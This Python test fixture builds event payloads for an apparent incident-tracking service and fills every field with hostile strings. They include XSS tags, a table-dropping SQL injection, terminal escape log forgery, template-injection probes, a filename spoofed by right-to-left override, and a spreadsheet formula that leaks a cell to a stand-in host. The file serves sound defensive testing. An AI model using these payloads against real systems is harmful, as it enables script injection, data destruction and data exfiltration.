"""Texts that want to be more than text, and an event that says one of them in every field that it has."""

from datetime import UTC, datetime, timedelta
from typing import Any, Final

from tests.tools.factories import wire_event

MARKUP: Final = "<img src=/planted onerror=alert(1)><script>alert(2)</script>"
LONG: Final = "long-" + "x" * 4995

HOSTILE: Final = (
    MARKUP,
    "\"'><svg onload=alert(3)><style>*{display:none}</style>",
    "'; DROP TABLE incidents; --",
    "\x1b[31;1mred\x1b[0m\x07\r\n2026-01-01 forged line",
    '=HYPERLINK("http://planted.example/?"&A1,"open")',
    "{{ 7 * 191 }}{% for x in range(9) %}${7*191}#{7*191}",
    "\u202egnp.exe\u202c \u2066שלום עולם\u2069 مرحبا بالعالم",  # noqa: RUF001 - written from right to left
    "javascript:alert(4)//http://planted.example/",
    "</textarea></title></script><h1>planted</h1><!--",
    "a\u0301" * 60 + "\u200b\ufeff\U0001f468\u200d\U0001f469\u200d\U0001f467",
    LONG,
)
_TAGS: Final = 2_000
_MILLION: Final = 1_000_000


def hostile_event(number: int, text: str) -> dict[str, Any]:
    """An event that says a text in each of its fields, as far as their lengths go."""
    name = text[:200].strip() or "?"
    at = datetime.now(UTC) - timedelta(minutes=number)
    return wire_event(
        now=at,
        severity=("critical", "high", "medium", "low")[number % 4],
        severity_text=name,
        category="system",
        service=name,
        environment=name,
        release=name,
        host=name,
        code=name,
        message=f"{number} {text}",
        template=text,
        exceptions=_errors(number, text),
        context={name: text, "nested": {name: [text, {name: {name: text}}]}},
        tags=_tags(name, text),
        user={"id": name, "email": text, name: text},
        request={"method": name, "url": text, "headers": {name: text}, name: text},
        transaction=name,
        breadcrumbs=[_crumb(at, text) for _ in range(3)],
        trace_id=name,
        span_id=name,
        fingerprint=[f"planted {number}", text],
        count=_MILLION if number == 1 else 1,
        producer_id=name,
        sequence=number,
        truncated=[name],
        sdk={"name": name, "version": name},
    )


def _errors(number: int, text: str) -> list[dict[str, Any]]:
    inner = {"type": f"Inner{text}"[:200], "module": text, "value": text}
    group: dict[str, Any] = inner
    for _ in range(5):
        group = {"type": "ExceptionGroup", "value": text[:300], "members": [[group], [inner]]}
    frames = [_frame(text[:300], line) for line in range(1, 31 if number == 0 else 6)]
    return [
        {
            "type": text[:200],
            "module": text[:200],
            "value": text,
            "notes": [text, text],
            "attributes": {text[:100]: text[:300]},
            "frames": frames,
        },
        group,
    ]


def _frame(text: str, line: int) -> dict[str, Any]:
    return {
        "file": text,
        "module": text,
        "qualname": text,
        "line": line,
        "in_app": line % 3 == 0,
        "context": [text] * 5,
        "vars": {text[:60]: text, "order": text},
    }


def _crumb(at: datetime, text: str) -> dict[str, Any]:
    short = text[:500]
    return {"at": at.isoformat(), "category": short, "message": short, "level": short, "data": {short: short}}


def _tags(name: str, text: str) -> dict[str, Any]:
    tags: dict[str, Any] = {name: text[:300], "plain": name}
    if text == LONG:
        tags |= {f"tag-{number}": number for number in range(_TAGS)}
    return tags
